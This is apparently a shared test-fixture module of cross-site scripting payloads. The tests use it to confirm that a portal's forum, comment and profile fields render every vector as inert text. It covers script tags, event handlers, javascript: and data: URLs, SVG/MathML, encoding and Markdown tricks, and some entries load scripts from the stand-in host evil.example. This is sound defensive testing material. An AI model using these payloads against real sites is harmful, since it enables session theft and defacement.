"""Known cross-site scripting vectors, for every field where people write.

Collected from the usual public cheat sheets (script tags, event handlers, dangerous
URL schemes, SVG and MathML, malformed nesting, encodings) plus Markdown-specific
tricks. Shared by the forum, comment and profile suites: each vector should come out
of the portal as inert text, never as active markup.
"""

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=https://evil.example/x.js></script>",
    "<script/src=//evil.example/x.js>",
    "<script\n>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    '<script type="text/javascript">alert(1)</script>',
    "<script>/*</script><script>*/alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x onerror=alert`1`>",
    '<img src="x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<a onmouseover=alert(1)>link</a>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<iframe onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<p onclick=alert(1)>click</p>",
    "<b onmouseover=alert(1)>bold</b>",
    "<span onpointerenter=alert(1)>x</span>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<x contenteditable onblur=alert(1)>lose focus!",
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
]

DANGEROUS_URLS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<a href="java\0script:alert(1)">x</a>',
    "<a href='javascript:alert(1)'>x</a>",
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)' /></svg>#x\" />",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>",
    "<svg><style>*{background:url(javascript:alert(1))}</style></svg>",
    "<svg><image href=x onerror=alert(1)>",
]

STYLES_AND_MALFORMED = [
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="behavior: url(x.htc)">x</p>',
    "<style>body{background:url('javascript:alert(1)')}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</span>',
    '<a href="https://ok.example" style="color:red" onclick="alert(1)">x</a>',
    "<img src=x onerror=alert(1)//",
    "<img src=x onerror=alert(1) <b>",
    '<a href="https://ok.example" <script>alert(1)</script>>x</a>',
    "<<img src=x onerror=alert(1)>>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<table><td background=javascript:alert(1)>",
    "<div><p><b><i><script>alert(1)</script></i></b></p></div>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
]

ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "<img src=x onerror=\u0061lert(1)>",
]

MARKDOWN_TRICKS = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '[click](https://ok.example "title" onmouseover="alert(1)")',
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "![image](javascript:alert(1))",
    '![image](x" onerror="alert(1))',
    "![image](https://tracker.example/pixel.png)",
    "![image](data:image/png;base64,iVBORw0KGgo=)",
    "<javascript:alert(1)>",
    "[a](https://ok.example)<img src=x onerror=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "# <svg onload=alert(1)>",
]

# Order kept, duplicates dropped.
XSS_VECTORS = list(
    dict.fromkeys(
        SCRIPT_TAGS
        + EVENT_HANDLERS
        + DANGEROUS_URLS
        + SVG_AND_MATHML
        + STYLES_AND_MALFORMED
        + ENCODED
        + MARKDOWN_TRICKS
    )
)
